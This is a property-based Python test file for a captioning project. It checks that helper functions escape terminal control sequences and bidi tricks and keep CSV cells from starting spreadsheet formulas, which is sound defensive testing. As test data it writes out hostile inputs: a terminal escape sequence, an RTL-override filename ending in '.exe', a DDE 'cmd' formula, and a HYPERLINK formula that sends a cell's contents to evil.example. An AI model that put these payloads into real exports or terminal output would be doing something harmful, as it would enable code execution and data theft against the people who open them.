"""Text from buckets and the model, shown safely: terminals never obey it, JSON round-trips
it, spreadsheets never run it (captioner.safe_text), for every string Hypothesis makes."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from captioner.readback import csv_line
from captioner.safe_text import csv_cell, for_terminal, json_line

# Everything a terminal could obey: C0 but space... and DEL, C1, bidi controls.
OBEYED = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} | {
    "\u200e", "\u200f", "\u2028", "\u2029", *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
}  # fmt: skip
hostile = st.text(
    st.sampled_from(sorted(OBEYED)) | st.characters(codec="utf-8", exclude_categories=["Cs"])
)


@given(hostile)
def test_nothing_a_terminal_obeys_survives_for_terminal(text: str) -> None:
    shown = for_terminal(text)
    assert not set(shown) & OBEYED
    assert all(unicodedata.category(c) not in ("Cc",) for c in shown)


@given(hostile)
def test_text_without_controls_is_shown_as_it_is(text: str) -> None:
    plain = "".join(c for c in text if c not in OBEYED)
    assert for_terminal(plain) == plain


@given(st.dictionaries(st.text(max_size=5), hostile | st.integers(), max_size=4))
def test_json_lines_round_trip_and_carry_nothing_a_terminal_obeys(value: dict[str, object]) -> None:
    line = json_line(value)
    assert json.loads(line) == value
    assert not set(line) & OBEYED


def test_known_sequences_are_shown_not_run() -> None:
    title = "\x1b]0;pwned\x07photo.jpg"
    assert for_terminal(title) == "\\x1b]0;pwned\\x07photo.jpg"
    assert for_terminal("\x9b31mred") == "\\x9b31mred"
    assert for_terminal("abc\u202egpj.exe") == "abc\\u202egpj.exe"
    assert json_line({"a": "\x9b"}) == '{"a": "\\u009b"}'


@given(hostile)
def test_no_csv_cell_can_start_a_formula_whatever_the_text(text: str) -> None:
    out = io.StringIO()
    out.write(csv_line([csv_cell(text)]))
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def test_the_owasp_examples_are_neutralised() -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A2,"Open the photo")'
    assert csv_cell(hyperlink) == "'" + hyperlink
    for start in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"):
        assert csv_cell(start).startswith("'")
    assert csv_cell("A cat on a mat.") == "A cat on a mat."
